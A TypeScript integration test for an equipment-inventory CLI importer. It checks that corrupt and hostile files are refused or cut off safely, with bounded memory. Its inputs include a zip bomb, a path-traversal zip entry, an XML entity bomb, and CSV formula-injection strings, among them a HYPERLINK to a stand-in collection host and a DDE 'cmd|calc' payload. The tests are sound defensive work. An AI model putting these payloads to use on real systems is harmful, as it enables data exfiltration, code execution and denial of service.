// SPDX-License-Identifier: Apache-2.0
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { RunningApp } from '../../src/app/create-app.ts';
import { workbookXml, zipBytes } from '../../src/importers/engine/testing-workbook.ts';
import { renderPdf } from '../../src/platform/rendering/pdf.ts';
import { minimal } from '../../src/platform/rendering/testing/sample.ts';
import {
  asOwner,
  type CliResult,
  call,
  countRows,
  newCli,
  openData,
  tenantNamed,
  trailDefects,
} from '../harness/cli.ts';
import { isRoot, serversIn } from '../harness/embedded.ts';
import { unzip } from '../harness/pack.ts';

const patience = 240_000;
/** MiB. A machine of 1 GB has to run PostgreSQL beside this process. */
const mostMemory = 500;
const riverside = path.resolve(import.meta.dirname, '../../examples/riverside/files');
const cli = newCli();
const at = (name: string) => path.join(cli.folder, name);
const sample = (name: string) => fs.readFileSync(path.join(riverside, name));

const Outcome = z.object({
  file: z.string(),
  importer: z.string().nullable(),
  created: z.int(),
  updated: z.int(),
  rejects: z.array(z.object({ at: z.string(), reason: z.string() })),
  problem: z.string().nullable(),
  runId: z.string().nullable(),
});
type Outcome = z.output<typeof Outcome>;

const header = 'Equipment No,Description,Manufacturer,Model,Serial No.,Remarks';
const rows = (count: number) =>
  Array.from({ length: count }, (_, i) => `EQ-${i + 1},Infusion pump,Acme,One,S${i + 1},`);
const table = (...lines: string[]) => `${[header, ...lines].join('\n')}\n`;

/** Not one row of these can be used. `says` is what a person must be told beside the name. */
const refused: Readonly<Record<string, { make: (file: string) => unknown; says: RegExp }>> = {
  'cut.xlsx': { make: (f) => write(f, sample('systems.xlsx').subarray(0, 9000)), says: /archive: .*incomplete/ },
  'empty.csv': { make: (f) => write(f, ''), says: /empty\. Export it again/ },
  'one-line.csv': {
    make: (f) => write(f, '').then(() => fs.truncateSync(f, 2 ** 30)),
    says: /1024 MiB, the limit is 512 MiB, and its line 1 alone is longer than 1048576 characters/,
  },
  'bomb.xlsx': { make: async (f) => write(f, await zipBomb()), says: /archive: .*unpacks to \d+ times its size/ },
  'climbing.xlsx': { make: async (f) => write(f, await climbingZip()), says: /archive: .*name leaves the archive/ },
  'mixed.csv': {
    make: (f) =>
      write(f, Buffer.concat([Buffer.from(table('EQ-1,Gerät,Acme,One,S1,')), Buffer.from([0xc3, 0x28, 0xff])])),
    says: /cannot be read as text: .*at line 3, byte \d+/,
  },
  'garbage.csv': { make: (f) => write(f, randomBytes(50_000)), says: /none of the known formats/ },
  'letter.pdf': {
    make: (f) => write(f, renderPdf(minimal, { createdAt: new Date(0) })),
    says: /none of the known formats/,
  },
  'folder.csv': { make: (f) => fs.mkdirSync(f), says: /not a file/ },
  'missing.csv': { make: () => {}, says: /cannot be opened/ },
  'unreadable.csv': { make: (f) => write(f, table(...rows(2))).then(() => fs.chmodSync(f, 0)), says: /cannot be read/ },
};
/** Neither a file that root may not read nor one without an end can be made in a folder. */
const places: Readonly<Record<string, string>> = { ...(isRoot ? { 'unreadable.csv': '/proc/self/mem' } : {}) };
const placeOf = (name: string) => places[name] ?? at(name);

/** These are read as far as they can be read. */
const stopped: Readonly<
  Record<string, { content: () => string | Buffer; where: RegExp; says: RegExp; created: number | 'some' }>
> = {
  'cut.xml': {
    content: () => sample('nmap-guest-wifi.xml').subarray(0, 20_000),
    where: /^line \d+$/,
    says: /ends before/,
    created: 'some',
  },
  'cut.json': {
    content: () => sample('sbom-conflux-bridge-4.5.json').subarray(0, 6000),
    where: /^line \d+, column \d+$/,
    says: /ends unfinished/,
    created: 'some',
  },
  'entities.xml': { content: entityBomb, where: /^line \d+$/, says: /entity bombs/, created: 0 },
  'long-line.csv': {
    content: () => table(...rows(7), `EQ-8,${'x'.repeat(2 ** 26)},Acme,One,S8,`, ...rows(2)),
    where: /^line 9$/,
    says: /longer than \d+ characters/,
    created: 7,
  },
  // past the part by which the format is told
  'encoding.csv': {
    content: () =>
      Buffer.concat([Buffer.from(table(...rows(12_000), 'EQ-0,Gerät,Acme,One,S0,')), Buffer.from([0xc3, 0x28, 0xff])]),
    where: /^line 12003, byte \d+$/,
    says: /Invalid UTF-8/,
    created: 'some',
  },
};

const formulas = ['=HYPERLINK("http://collect.example/?"&A1)', '+1+cmd|calc!A0', '-2+3', '@SUM(1+1)', '\t=1+1'];

async function write(file: string, content: string | Uint8Array): Promise<void> {
  fs.writeFileSync(file, content);
}

function entityBomb(): string {
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('');
  return `<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY e0 "ha">${entities}]>\n<nmaprun scanner="nmap"><host>&e9;</host></nmaprun>\n`;
}

async function zipBomb(): Promise<Buffer> {
  const parts = workbookXml([{ name: 'Devices', rows: [header.split(',')] }]);
  return zipBytes({ ...parts, 'xl/worksheets/sheet1.xml': Buffer.alloc(2 ** 26, ' ') });
}

/** The writer refuses such a name, so it is put in afterwards. */
async function climbingZip(): Promise<Buffer> {
  const bytes = await zipBytes({ ...workbookXml([{ name: 'Devices', rows: [] }]), 'aa/bb/cccccc.xml': '<a/>' });
  return Buffer.from(bytes.toString('latin1').replaceAll('aa/bb/cccccc.xml', '../../cccccc.xml'), 'latin1');
}

let app: RunningApp;
async function importAs(tenant: string, files: readonly string[]): Promise<{ result: CliResult; outcomes: Outcome[] }> {
  const result = await cli.run('import', ...files, '--tenant', tenant, '--json');
  const { files: outcomes } = z.object({ files: z.array(Outcome) }).parse(JSON.parse(result.stdout));
  return { result, outcomes };
}
const outcomeOf = (outcomes: readonly Outcome[], file: string): Outcome => {
  const found = outcomes.find((outcome) => outcome.file === file);
  if (!found) throw new Error(`nothing is said about ${file}`);
  return found;
};

beforeAll(async () => {
  app = await openData(cli);
});
afterAll(async () => {
  await app?.close();
  expect(serversIn(cli.database)).toBe(0);
});

describe('files that cannot be read', () => {
  let outcomes: Outcome[];
  let result: CliResult;
  beforeAll(async () => {
    for (const [name, { make }] of Object.entries(refused)) await make(at(name));
    ({ result, outcomes } = await importAs('Refused', Object.keys(refused).map(placeOf)));
  }, patience);

  it.each(Object.entries(refused))('%s is named with the reason, and the next one is read', (name, { says }) => {
    const { problem, ...outcome } = outcomeOf(outcomes, placeOf(name));
    expect(outcome).toMatchObject({ importer: null, created: 0, updated: 0, rejects: [], runId: null });
    expect(problem).toContain(path.basename(placeOf(name)));
    expect(problem).toMatch(says);
  });

  it('end with 2, in bounded memory, and leave the database as it was', async () => {
    expect(result).toMatchObject({ code: 2, stderr: '' });
    expect(result.peak).toBeLessThan(mostMemory);
    const tenant = await tenantNamed(app, 'Refused');
    const rows = Object.entries(await countRows(app, tenant)).filter(([, count]) => count > 0);
    const tables = rows.map(([name]) => name).filter((name) => !name.startsWith('audit.'));
    expect(tables).toEqual(['wardline.tenant', 'wardline.unit', 'wardline.unit_closure']);
    expect(await trailDefects(app, tenant)).toEqual([]);
  });

  it('are not even copied', () => {
    expect(fs.existsSync(path.join(cli.data, 'files'))).toBe(false);
  });

  it('are named to people too', async () => {
    const { code, stdout } = await cli.run('import', at('empty.csv'), '/dev/zero', '--tenant', 'Refused');
    expect({ code, stdout }).toEqual({
      code: 2,
      stdout: `Not read: 'empty.csv' is empty. Export it again.\nNot read: '/dev/zero' is not a file. Name the file itself.\n`,
    });
  });
});

describe('files that can be read only in part', () => {
  let outcomes: Outcome[];
  let result: CliResult;
  beforeAll(async () => {
    for (const [name, { content }] of Object.entries(stopped)) await write(at(name), content());
    ({ result, outcomes } = await importAs('Stopped', Object.keys(stopped).map(at)));
  }, patience);

  it.each(Object.entries(stopped))('%s is kept up to the place that is named', (name, { where, says, created }) => {
    const outcome = outcomeOf(outcomes, at(name));
    const last = outcome.rejects.at(-1);
    expect(last).toEqual({ at: expect.stringMatching(where), reason: expect.stringMatching(says) });
    expect(outcome.problem).toBe(`${name}, ${last?.at}: ${last?.reason}`);
    if (created === 'some') expect(outcome.created).toBeGreaterThan(0);
    else expect(outcome.created).toBe(created);
  });

  it('end with 2, in bounded memory, and leave exactly the accepted rows', async () => {
    expect(result).toMatchObject({ code: 2, stderr: '' });
    expect(result.peak).toBeLessThan(mostMemory);
    const kept = await asOwner<{ run: string; n: number }>(
      app,
      `select r.id as run, count(s.id)::int as n from wardline.import_run r left join wardline.source_record s on s.run_id = r.id
       where r.tenant_id = $1 and r.state = 'stopped' group by 1`,
      [await tenantNamed(app, 'Stopped')],
    );
    const accepted = outcomes.map(({ runId, created, updated }) => [runId, created + updated]);
    expect(kept.map(({ run, n }) => [run, n]).sort()).toEqual(accepted.sort());
    expect(await trailDefects(app, await tenantNamed(app, 'Stopped'))).toEqual([]);
  });
});

describe('text that a spreadsheet would run', () => {
  it('comes in as text and leaves as text', async () => {
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const lines = formulas.map((text, i) => `EQ-${i + 1},${quoted(text)},${quoted(text)},One,S${i + 1},`);
    await write(at('formulas.csv'), table(...lines));
    const { result, outcomes } = await importAs('Formulas', [at('formulas.csv')]);
    expect(result.code).toBe(0);
    expect(outcomes).toMatchObject([{ importer: 'asset-list', created: formulas.length, rejects: [], problem: null }]);
    const tenant = await tenantNamed(app, 'Formulas');
    const made = async (format: string) => {
      const { sha256 } = await call<{ sha256: string }>(app, tenant, 'reports.render', { report: 'inventory', format });
      return app.files.localPath(sha256);
    };
    const names = formulas.map((text) => text.trim());
    const csv: string[][] = parseCsv(fs.readFileSync(await made('csv')), { bom: true });
    expect(csv.flat()).toEqual(expect.arrayContaining(names.map((name) => `'${name}`)));
    for (const name of names) expect(csv.flat()).not.toContain(name);
    const xml = [...(await unzip(await made('xlsx')))].map(([, bytes]) => bytes.toString()).join();
    expect(xml).not.toMatch(/<f[\s>/]/);
    expect(xml).toContain('t="str"><v>@SUM(1+1)<');
  });
});
